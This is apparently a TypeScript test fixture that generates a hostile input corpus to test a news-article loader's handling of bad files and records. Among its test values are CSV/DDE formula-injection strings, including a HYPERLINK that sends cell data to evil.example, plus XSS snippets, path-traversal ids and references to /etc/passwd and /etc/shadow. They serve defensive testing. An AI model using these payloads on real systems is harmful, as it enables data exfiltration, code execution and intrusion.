// A hostile corpus, generated into a temporary folder by the tests (no checked-in binaries), with the
// outcome every input must get. An "input" (the unit of `loaded + skipped = inputs`):
//   - each entry under the corpus folder that is not a folder and not hidden (name starting with "."),
//     the manifest (corpus.csv) excluded: regular files, FIFOs and other special files, broken symlinks,
//     symlink loops and symlinks leading outside the folder (a symlink to a folder inside is walked, once);
//   - except that a records file (.jsonl/.ndjson/.json array/.csv) that parses counts once per record
//     (per non-blank line, array item or data row), not once as a file;
//   - plus each manifest row naming a file that is not among those entries (outside the folder, missing);
//   - a folder that cannot be listed counts as one input (its contents cannot be seen).
// Each expected outcome is keyed `file` or `file#record` like Skip/Provenance, and is 'loaded' or a
// pattern for the skip reason.
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import iconv from 'iconv-lite';
import type { Corpus } from '../../lib/types.js';

/** What one input must become. */
export type Outcome = 'loaded' | RegExp;

/** A generated hostile corpus. */
export interface HostileCorpus {
  root: string;
  /** key (`file` or `file#record`) -> expected outcome */
  expected: Map<string, Outcome>;
  /** a short description of each hostile case, for failure messages */
  notes: Map<string, string>;
  cleanup: () => void;
}

/** Options: sizes of the heavy cases (the defaults are the issue's: 20 MB, 1 MB, 2000 tiny files). */
export interface HostileOptions {
  bigBytes?: number;
  lineBytes?: number;
  tinyFiles?: number;
  /** make `locked.txt` and `locked-dir/` mode 000 (only unreadable when the loader does not run as root) */
  locked?: boolean;
}

/** Outlet and id strings a spreadsheet or a file system would misread. */
export const HOSTILE_OUTLET = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
export const HOSTILE_OUTLETS = [
  HOSTILE_OUTLET,
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '../../escape',
  '<img src=x onerror=alert(1)>',
];

const BODY = (n: number | string) =>
  `The Iraqi delegation led by Hamid al-Shatri arrived in Damascus on Thursday, report ${n} said.\n\n` +
  `Officials discussed border security, detainees and trade with the new administration in Syria.\n`;

const ARABIC =
  'وصل وفد عراقي رفيع المستوى برئاسة رئيس جهاز المخابرات حميد الشطري إلى دمشق يوم الخميس للقاء الإدارة السورية الجديدة.\n\nوقال مصدر حكومي إن الزيارة تهدف إلى تأكيد موقف العراق من عدم التدخل في الشؤون الداخلية لسوريا.\n';
const LATIN1 =
  'Le délégué irakien est arrivé à Damas jeudi. Les négociations ont porté sur la sécurité à la frontière, a déclaré un responsable.\n\nLa réunion a duré deux heures.\n';

/** A long article of paragraphs, about `bytes` long; every paragraph differs (numbered). */
export function bigArticle(bytes: number): string {
  const para = (i: number) =>
    `${i}. Officials in Baghdad said on Thursday that delegation number ${i} discussed border security with Ahmed al-Sharaa in Damascus, ` +
    `while the Kurdistan Region Government and the United Nations called for calm. "We will protect the border," Hamid al-Shatri told reporters. `;
  const out: string[] = [];
  let n = 0;
  for (let i = 0; n < bytes; i++) {
    const p = para(i).repeat(3);
    out.push(p);
    n += p.length + 2;
  }
  return out.join('\n\n');
}

/** Generate the hostile corpus into a new temporary folder. */
export function makeHostileCorpus(opts: HostileOptions = {}): HostileCorpus {
  const bigBytes = opts.bigBytes ?? 20 * 1024 * 1024;
  const lineBytes = opts.lineBytes ?? 1024 * 1024;
  const tinyFiles = opts.tinyFiles ?? 2000;
  const root = mkdtempSync(join(tmpdir(), 'presslens-hostile-'));
  chmodSync(root, 0o755); // readable by an unprivileged child process
  const expected = new Map<string, Outcome>();
  const notes = new Map<string, string>();
  const put = (rel: string, data: string | Buffer, outcome: Outcome | null, note: string) => {
    const p = join(root, rel);
    mkdirSync(dirname(p), { recursive: true });
    writeFileSync(p, data);
    if (outcome) {
      expected.set(rel, outcome);
      notes.set(rel, note);
    }
  };
  const expect = (key: string, outcome: Outcome, note: string) => {
    expected.set(key, outcome);
    notes.set(key, note);
  };

  // bytes that are not text
  put('zero-bytes.txt', '', /^empty file \(0 bytes\)$/, 'zero-byte file');
  put(
    'whitespace.txt',
    ' \n\t\u200B\u200F\n',
    /^empty file \(whitespace only\)$/,
    'only whitespace and invisible marks',
  );
  put(
    'binary.txt',
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0x3e, 0]),
    /^binary file/,
    'an ELF header named .txt',
  );
  put(
    'photo.jpg',
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46]),
    /^unsupported file type \.jpg$/,
    'an image',
  );
  put('README', 'no extension at all\n', /^unsupported file type \(no extension\)$/, 'no extension');
  put(
    'invalid-utf8.txt',
    Buffer.from([0x41, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0xff, 0xfe, 0xfd, 0x80, 0x0a]),
    /^undecodable: /,
    'invalid UTF-8 that no legacy code page explains',
  );
  put(
    'utf16-odd.txt',
    Buffer.from([0xff, 0xfe, 0x41, 0x00, 0x42]),
    /^undecodable: utf-16le with an odd number of bytes$/,
    'UTF-16 BOM, odd byte count',
  );
  put('utf32.txt', Buffer.from([0xff, 0xfe, 0, 0, 0x41, 0, 0, 0]), /^undecodable: UTF-32 is not supported$/, 'UTF-32');
  put('no-comments.txt', 'No comments:\n\nPost a Comment\n', /^no text left after cleaning/, 'only a comment widget');
  put(
    'scripts-only.html',
    '<html><head><script>alert(1)</script></head><body><nav>Home</nav></body></html>',
    /^no article text in HTML$/,
    'HTML with no article text',
  );
  put(
    'nested-deep.html',
    '<html><body>' + '<div>'.repeat(20_001) + '<p>Deep text.</p>' + '</div>'.repeat(20_001) + '</body></html>',
    /^HTML nested too deeply \(20003 levels; limit 10000\)$/,
    'HTML nested 20,001 levels deep (the HTML parser is quadratic in depth)',
  );
  put(
    'tag-soup.html',
    '<html><body><p>Officials said the talks went well.' + '<a'.repeat(200_000) + '</body></html>',
    'loaded',
    '200,000 unclosed "<a" without ">"',
  );
  put('malformed.json', '{"id": "m", "text": "unclosed', /^malformed JSON/, 'malformed JSON file');
  put('bad.csv', 'id,text\nq1,"an unclosed quote\n', /^malformed CSV/, 'malformed CSV records file');

  // text in other encodings
  put(
    'utf16le.txt',
    Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(BODY('utf16le'), 'utf16le')]),
    'loaded',
    'UTF-16LE with BOM',
  );
  put(
    'utf16be.txt',
    Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(BODY('utf16be'), 'utf16-be')]),
    'loaded',
    'UTF-16BE with BOM',
  );
  put('windows-1256.txt', iconv.encode(ARABIC, 'windows-1256'), 'loaded', 'Arabic in Windows-1256');
  put('latin1.txt', iconv.encode(LATIN1, 'latin1'), 'loaded', 'French in Latin-1');
  // a line of its own: the same text twice for one outlet would be one article saved twice, loaded once
  put('arabic-only.txt', `${ARABIC}\n\nبغداد\n`, 'loaded', 'only Arabic');
  put('emoji-only.txt', '😀🎉🔥👨‍👩‍👧‍👦🇮🇶 🙏🏽✨\n\n💥💥💥\n', 'loaded', 'only emoji');
  put(
    'rtl-zwj-names.txt',
    'Hamid al-\u200DShatri met Ahmed al-\u200FSharaa in Damascus. \u202Bحميد الشطري\u202C spoke to \u200EKurdistan24\u200E reporters.\n\n' +
      'Mohammed Shia\u200C al-Sudani said the border with Syria is secure. Hamid al-Shatri agreed.\n',
    'loaded',
    'RLM, LRM, ZWJ, ZWNJ and embeddings inside names',
  );
  put(
    'control-chars.txt',
    `Text with a bell \u0007 and escape \u001b[31m colour codes and a form feed \f inside.\n`,
    'loaded',
    'C0 control characters inside text',
  );

  // size
  if (bigBytes > 0)
    put('big/article-20mb.txt', bigArticle(bigBytes), 'loaded', `a ${(bigBytes / 1048576).toFixed(0)} MB article`);
  if (lineBytes > 0)
    put(
      'one-long-line.txt',
      'Officials said the talks went well (Photo: x) and '.repeat(Math.ceil(lineBytes / 50)).slice(0, lineBytes),
      'loaded',
      'a 1 MB line with no newline',
    );
  // 200,000 characters of dotted initials with no space: one token; a backtracking regex over it is quadratic
  put(
    'dotted-run.txt',
    `Officials from the U.S. said: ${'U.S.'.repeat(50_000)} and left.\n`,
    'loaded',
    'a 200 KB run of "U.S." with no space',
  );
  put(
    'base64-blob.txt',
    `An image was embedded here: data:image/png;base64,${Buffer.from(bigArticle(150_000)).toString('base64')} end.\n`,
    'loaded',
    'a 200 KB base64 blob inside an article',
  );
  for (let i = 0; i < tinyFiles; i++) {
    const id = String(i).padStart(5, '0');
    put(
      `tiny/${id.slice(0, 3)}/t${id}.txt`,
      `Note ${i}: ${i % 7 === 0 ? 'Baghdad' : 'Erbil'} calm.\n`,
      'loaded',
      'one of thousands of tiny files',
    );
  }

  // folders and links
  put('a/b/c/d/e/f/g/h/i/j/deep.txt', BODY('deep'), 'loaded', 'ten folders deep');
  mkdirSync(join(root, 'loop'));
  symlinkSync('..', join(root, 'loop', 'up')); // folder symlink loop: walked once, not an input
  symlinkSync('loop-b.txt', join(root, 'loop-a.txt'));
  symlinkSync('loop-a.txt', join(root, 'loop-b.txt'));
  expect('loop-a.txt', /^broken symlink$/, 'file symlink loop');
  expect('loop-b.txt', /^broken symlink$/, 'file symlink loop');
  symlinkSync('does-not-exist.txt', join(root, 'dangling.txt'));
  expect('dangling.txt', /^broken symlink$/, 'dangling symlink');
  symlinkSync('/etc/passwd', join(root, 'passwd.txt'));
  expect('passwd.txt', /^symlink points outside the corpus folder$/, 'symlink to /etc/passwd');
  symlinkSync('/etc', join(root, 'etc-link'));
  expect('etc-link', /^symlink points outside the corpus folder$/, 'symlink to a folder outside');
  symlinkSync('utf16le.txt', join(root, 'alias-of-utf16le.txt'));
  expect('alias-of-utf16le.txt', 'loaded', 'symlink to a file inside (loaded under its own name)');
  try {
    execFileSync('mkfifo', [join(root, 'fifo.txt')]);
    expect('fifo.txt', /^not a regular file$/, 'a FIFO (reading it would block forever)');
  } catch {
    /* no mkfifo: case absent */
  }
  mkdirSync(join(root, 'looks-like-a-file.txt'));
  put('looks-like-a-file.txt/inner.txt', BODY('inner'), 'loaded', 'inside a folder named like a file');
  put('.hidden.txt', BODY('hidden'), null, 'hidden: not an input');
  put('.git/config', '[core]\n', null, 'hidden folder: not an input');
  put('locked.txt', BODY('locked'), opts.locked ? /^unreadable: permission denied$/ : 'loaded', 'mode 000');
  put('locked-dir/secret.txt', BODY('locked-dir'), opts.locked ? null : 'loaded', 'inside a mode-000 folder');
  if (opts.locked) expect('locked-dir', /^folder unreadable: permission denied$/, 'a mode-000 folder');
  if (opts.locked) {
    chmodSync(join(root, 'locked.txt'), 0);
    chmodSync(join(root, 'locked-dir'), 0);
  }

  // identity and names
  // same name in two folders: two ids (dup-a/story, dup-b/story); same path and stem: one id, a true duplicate
  put(
    'dup-a/story.txt',
    BODY('dup-a'),
    /^duplicate id "dup-a\/story" \(already loaded from dup-a\/story\.text\)$/,
    'second file with id "dup-a/story"',
  );
  put('dup-b/story.txt', BODY('dup-b'), 'loaded', 'story.txt in another folder: its own id');
  put('dup-a/story.text', BODY('dup-a-text'), 'loaded', 'first of two files with id "dup-a/story"');
  // sorted walk: story.text comes before story.txt, so story.txt is the second one

  put("=cmd'calc'.txt", BODY('formula name'), 'loaded', 'a file name that is a spreadsheet formula');
  put(
    'name with\nnewline and \u202Eevil.txt',
    BODY('newline name'),
    'loaded',
    'a file name with a newline and a right-to-left override',
  );
  for (const key of ['constructor', '__proto__', 'hasOwnProperty'])
    put(`keys/${key}.txt`, BODY(key), 'loaded', 'an id that is a JavaScript object key');

  // records
  const jl = [
    JSON.stringify({ id: 'j-ok', outlet: 'Wire One', date: '2024-12-26', title: 'Fine', text: BODY('j-ok') }),
    JSON.stringify({ id: 'j-ok', outlet: 'Wire One', text: 'A second record with the same id.' }),
    '',
    JSON.stringify({ id: '../../escape', outlet: '../../escape', text: BODY('path id') }),
    JSON.stringify({ id: 'j-formula', outlet: HOSTILE_OUTLET, title: '=1+2', text: BODY('formula outlet') }),
    JSON.stringify({
      id: 'j-html',
      outlet: '<img src=x onerror=alert(1)>',
      title: '<script>alert(1)</script>',
      text: BODY('html outlet'),
    }),
    JSON.stringify({ id: 'j-notext', title: 'no text' }),
    JSON.stringify(['an', 'array']),
    JSON.stringify({ id: 'j-numtext', text: 42 }),
    '{"id": "j-cut", "outlet": "Wire One", "text": "This record was cut off in the mid',
  ];
  put('records.jsonl', jl.join('\n'), null, 'JSON Lines');
  expect('records.jsonl#1', 'loaded', 'good record');
  expect(
    'records.jsonl#2',
    /^duplicate id "j-ok" \(already loaded from records\.jsonl record 1\)$/,
    'duplicate record id',
  );
  expect('records.jsonl#4', 'loaded', 'record with id ../../escape');
  expect('records.jsonl#5', 'loaded', 'record with a formula outlet');
  expect('records.jsonl#6', 'loaded', 'record with HTML in outlet and title');
  expect(
    'records.jsonl#7',
    /^record 7: no text field among the columns id, title; name it with --map text=<column>$/,
    'record without text',
  );
  expect('records.jsonl#8', /^record 8: not an object$/, 'array instead of object');
  expect('records.jsonl#9', /^record 9: field "text" is not a string$/, 'numeric text');
  expect('records.jsonl#10', /^malformed record at line 10 \(truncated last line\)/, 'truncated last line');
  put(
    'records.csv',
    'id,outlet,title,text,extra\n' +
      'c-1,"Outlet, with comma","Title with ""quotes"", commas","First paragraph, with a comma.\n\nSecond paragraph\nafter a quoted newline.",x\n' +
      'c-2,' +
      '"' +
      HOSTILE_OUTLETS[1].replace(/"/g, '""') +
      '",Short,"' +
      BODY('csv formula').replace(/"/g, '""') +
      '",\n' +
      'c-3,Too,Few\n' +
      'c-4,Outlet,Empty text,,\n',
    null,
    'CSV records',
  );
  expect('records.csv#1', 'loaded', 'quoted commas and newlines');
  expect('records.csv#2', 'loaded', 'formula outlet in CSV records');
  expect('records.csv#3', /^record 3: 3 columns, header has 5/, 'missing columns');
  expect('records.csv#4', /^record 4: no text field \(column "text" is empty\)$/, 'empty text cell');
  put('empty-array.json', '[]', /^no records$/, 'a JSON array with no records');

  // the manifest: missing columns, extra columns, quoted commas and newlines, paths leaving the folder
  put(
    'corpus.csv',
    [
      'file,outlet,date,title,unexpected_column',
      'utf16le.txt,"Outlet, Inc.",2024-12-26,"A title, with a comma\nand a newline",ignored',
      'latin1.txt,' + '"' + HOSTILE_OUTLET.replace(/"/g, '""') + '"',
      'windows-1256.txt',
      '../../etc/passwd,Evil,,,',
      '/etc/shadow,Evil,,,',
      'sub/../../outside.txt,,,,',
      'missing.txt,Ghost,,,',
      'looks-like-a-file.txt,Folder,,,',
      'passwd.txt,Evil,,,',
      'dangling.txt,Ghost,,,',
      'loop-a.txt,Loop,,,',
      '.hidden.txt,Hidden,,,',
      'locked-dir/secret.txt,Locked,,,',
    ].join('\n') + '\n',
    null,
    'manifest',
  );
  if (opts.locked)
    expect(
      'locked-dir/secret.txt',
      /^manifest row 13: unreadable: permission denied$/,
      'manifest row naming a file inside a mode-000 folder',
    );
  // rows naming an input the walk already listed (a symlink leaving the folder, a broken link) add no input
  expect('.hidden.txt', 'loaded', 'a hidden file named by the manifest is loaded');
  expect('../../etc/passwd', /^manifest row 4: path outside the corpus folder$/, 'manifest row ../../etc/passwd');
  expect('/etc/shadow', /^manifest row 5: path outside the corpus folder$/, 'manifest row with an absolute path');
  expect(
    'sub/../../outside.txt',
    /^manifest row 6: path outside the corpus folder$/,
    'manifest row escaping through a subfolder',
  );
  expect('missing.txt', /^manifest row 7: file not found$/, 'manifest row naming a missing file');
  expect('looks-like-a-file.txt', /^manifest row 8: not a file$/, 'manifest row naming a folder');

  const cleanup = () => {
    try {
      chmodSync(join(root, 'locked-dir'), 0o755);
    } catch {
      /* absent */
    }
    rmSync(root, { recursive: true, force: true });
  };
  return { root, expected, notes, cleanup };
}

/** The actual outcome of every input in a loaded corpus, keyed like `expected`; throws if an input is listed twice. */
export function outcomes(c: Pick<Corpus, 'articles' | 'skipped'>): Map<string, 'loaded' | string> {
  const got = new Map<string, 'loaded' | string>();
  const add = (key: string, v: string) => {
    if (got.has(key)) throw new Error(`input ${JSON.stringify(key)} listed twice: ${got.get(key)} and ${v}`);
    got.set(key, v);
  };
  for (const a of c.articles)
    add(a.provenance.record ? `${a.provenance.file}#${a.provenance.record}` : a.provenance.file, 'loaded');
  for (const s of c.skipped) add(s.record ? `${s.file}#${s.record}` : s.file, s.reason);
  return got;
}
